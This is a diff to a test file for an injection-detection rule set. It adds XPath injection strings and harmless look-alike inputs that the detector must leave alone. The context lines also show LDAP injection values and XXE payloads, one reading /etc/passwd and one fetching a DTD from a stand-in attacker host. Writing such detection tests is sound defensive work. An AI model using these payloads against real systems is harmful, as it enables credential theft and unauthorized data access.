@@ -145,6 +145,10 @@ describe('other rules', () => {
     ['other-070', 'ldap', 'val)|(uid=*'],
     ['other-070', 'ldap', 'admin*)((|userPassword=*)'],
     ['other-070', 'ldap', "*()|&'"],
+    ['other-071', 'xpath', "')]|//*|//*['"],
+    ['other-071', 'xpath', "'] | //user/*[contains(*,'"],
+    ['other-071', 'xpath', "']/../*[1]|//*['"],
+    ['other-071', 'xpath', '456")]|//a|/a[contains(a,"b'],
     ['other-080', 'xxe', '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'],
     ['other-080', 'xxe', '<!DOCTYPE foo SYSTEM "http://attacker.com/x.dtd">'],
     ['other-080', 'xxe', '<xi:include parse="text" href="file:///etc/passwd"/>'],
@@ -246,6 +250,10 @@ describe('other rules', () => {
     "'a;b(';//')",
     'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB',
     'data:;base64,SGVsbG8sIFdvcmxkIQ==',
+    "const mode = flags['x'] || // fallback",
+    "| ['a'] | //comment |",
+    "echo 'a' | /usr/bin/tr",
+    "a|//b and 'c']",
 ])('leaves %j alone at paranoia 1', (input) => {
     expect(ruleIds(input)).toEqual([]);
   });
